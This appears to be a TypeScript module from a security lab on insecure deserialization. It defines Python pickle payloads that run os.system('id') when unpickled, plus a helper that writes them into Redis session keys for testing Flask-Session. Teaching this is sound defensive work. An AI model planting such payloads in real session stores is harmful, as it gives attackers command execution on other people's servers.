// The payloads the pickle lab's page shows, as bytes and as a redis-cli argument. The tests plant the same
// bytes in the real Flask-Session 0.3.2 and 0.8.0 (with the command runner replaced by a recorder) and in the
// lab's app, and compare what each does (tests/labs/pickle-store-real.test.ts, real-runs.json).
import { quoteBytes } from './redis-cli.ts';

const fromHex = (h: string): Uint8Array => Uint8Array.from(h.match(/../g)!, (x) => parseInt(x, 16));

export interface Payload {
  id: 'p0' | 'p4' | 'p4dict';
  /** Where the bytes come from, per page language. */
  label: Record<'en' | 'zh-CN', string>;
  bytes: Uint8Array;
}

export const PAYLOADS: readonly Payload[] = [
  { id: 'p0', label: { en: "protocol 0, typed by hand: cos\\nsystem\\n(S'id'\\ntR.", 'zh-CN': "协议 0，手写：cos\\nsystem\\n(S'id'\\ntR." }, bytes: new TextEncoder().encode("cos\nsystem\n(S'id'\ntR.") },
  {
    id: 'p4',
    label: {
      en: "pickle.dumps(Run(), protocol=4), where Run.__reduce__ returns (os.system, ('id',))",
      'zh-CN': "pickle.dumps(Run(), protocol=4)，其中 Run.__reduce__ 返回 (os.system, ('id',))",
    },
    bytes: fromHex('8004951d000000000000008c05706f736978948c0673797374656d9493948c02696494859452942e'),
  },
  {
    id: 'p4dict',
    label: { en: "pickle.dumps({'user': 'guest', 'x': Run()}, protocol=4)", 'zh-CN': "pickle.dumps({'user': 'guest', 'x': Run()}, protocol=4)" },
    bytes: fromHex('80049534000000000000007d94288c0475736572948c056775657374948c0178948c05706f736978948c0673797374656d9493948c0269649485945294752e'),
  },
];

/** The redis-cli command that writes a payload under a key. */
export function setCommand(key: string, p: Payload): string {
  return `SET ${key} ${quoteBytes(p.bytes)}`;
}
